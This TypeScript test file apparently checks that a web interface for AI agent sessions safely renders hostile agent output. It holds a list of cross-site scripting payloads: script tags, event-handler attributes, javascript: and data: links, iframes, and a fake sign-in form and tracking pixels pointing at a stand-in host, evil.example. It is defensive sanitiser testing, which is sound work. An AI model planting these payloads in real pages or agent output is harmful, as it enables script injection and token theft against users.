/**
 * What an agent, or a tool behind it, may try to put into the page.
 */

import { describe, expect, it } from "vitest";

import type { Stage } from "../support/stage.ts";

const ATTEMPTS = [
  "<script>globalThis.pwned = 1</script>",
  '<img src="x" onerror="globalThis.pwned = 1">',
  '<svg onload="globalThis.pwned = 1"><script>globalThis.pwned = 1</script></svg>',
  '<svg><a xlink:href="javascript:globalThis.pwned = 1"><text>svg link</text></a></svg>',
  '<math><mi xlink:href="javascript:globalThis.pwned = 1">math</mi></math>',
  "[script link](javascript:globalThis.pwned=1)",
  "[data link](data:text/html,<script>globalThis.pwned=1</script>)",
  '<a href="javascript:globalThis.pwned = 1">html link</a>',
  '<a href="https://example.com/safe" target="_top" onclick="globalThis.pwned = 1">safe link</a>',
  '<iframe src="javascript:parent.pwned = 1"></iframe>',
  '<form action="https://evil.example/"><input name="token"><button>Sign in</button></form>',
  "<style>body { display: none }</style>",
  '<div style="position: fixed; inset: 0">covering</div>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<div id="root"><input id="composer" autofocus></div>',
  "![a spy](https://evil.example/pixel.png)",
  '<img src="https://evil.example/pixel2.png" srcset="https://evil.example/pixel3.png 2x">',
  '<details open ontoggle="globalThis.pwned = 1"><summary>more</summary></details>',
  "`<img src=x onerror=globalThis.pwned=1>` and\n\n```html\n<img src=x onerror=globalThis.pwned=1>\n```",
];

export function standingFirm(stage: () => Stage): void {
  describe("Hostile content", () => {
    it("draws what agents write, and runs, loads and obeys none of it", async () => {
      await using scene = await stage().scene();
      const { page, gateway } = scene;
      const asked: string[] = [];
      page.on("request", (request) => asked.push(request.url()));
      const session = gateway.add({ id: "s1", title: "<img src=x onerror=globalThis.pwned=1>" });
      const hostile = (text: string) => ({ type: "text", text });
      for (const text of ATTEMPTS) {
        session.update({ sessionUpdate: "agent_message_chunk", content: hostile(`${text}\n\n`) });
      }
      const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned=1"/>').toString("base64");
      session.update({
        sessionUpdate: "agent_message_chunk",
        content: { type: "image", mimeType: "image/svg+xml", data: svg },
      });
      session.update({
        sessionUpdate: "agent_message_chunk",
        content: { type: "image", mimeType: 'text/html"><script>parent.pwned=1</script>', data: "" },
      });
      const uri = "javascript:globalThis.pwned=1";
      session.update({ sessionUpdate: "agent_message_chunk", content: { type: "resource_link", name: "a file", uri } });
      session.update({
        sessionUpdate: "tool_call",
        toolCallId: "c",
        title: "<img src=x onerror=globalThis.pwned=1>",
        rawOutput: ATTEMPTS.join("\n"),
      });
      session.update({ sessionUpdate: "agent_message_chunk", content: hostile("The end.") });
      await scene.open("/s/s1");
      await page.getByText("The end.").waitFor();
      await page.locator("article[data-type=tool-call] button").first().click();
      const found = await page.getByRole("feed").evaluate((feed) => ({
        pwned: "pwned" in globalThis,
        links: [...feed.querySelectorAll("a[href]")]
          .flatMap((link) => (link instanceof HTMLAnchorElement ? link : []))
          .map((link) => [link.getAttribute("href"), link.target, link.rel]),
        forbidden: [
          ...feed.querySelectorAll(
            "script, iframe, form, style, link, meta, .prose svg:not([aria-hidden]), .prose [style]:not(figure *), .prose [id]",
          ),
        ].map(({ outerHTML }) => outerHTML),
        handlers: [...feed.querySelectorAll("*")].flatMap((element) =>
          element.getAttributeNames().filter((name) => name.startsWith("on")),
        ),
        fields: feed.querySelectorAll("input").length,
        pictures: [...feed.querySelectorAll("img")].map(({ src }) => src.slice(0, 19)),
      }));
      const away = ["_blank", "noopener noreferrer nofollow"];
      expect(found).toEqual({
        pwned: false,
        links: [
          ["https://example.com/safe", ...away],
          ["https://evil.example/pixel.png", ...away],
          ["https://evil.example/pixel2.png", ...away],
        ],
        forbidden: [],
        handlers: [],
        fields: 0,
        pictures: ["data:image/svg+xml;"],
      });
      expect(asked.filter((url) => !url.startsWith(gateway.url) && !url.startsWith("data:"))).toEqual([]);
      expect(page.url()).toBe(`${gateway.url}/s/s1`);
      // The sanitiser's parser, a document of its own, is kept by the policy from what it reads; the page runs no risk.
      expect(scene.complaints.filter((complaint) => !complaint.includes("Content Security Policy"))).toEqual([]);
    });
  });
}
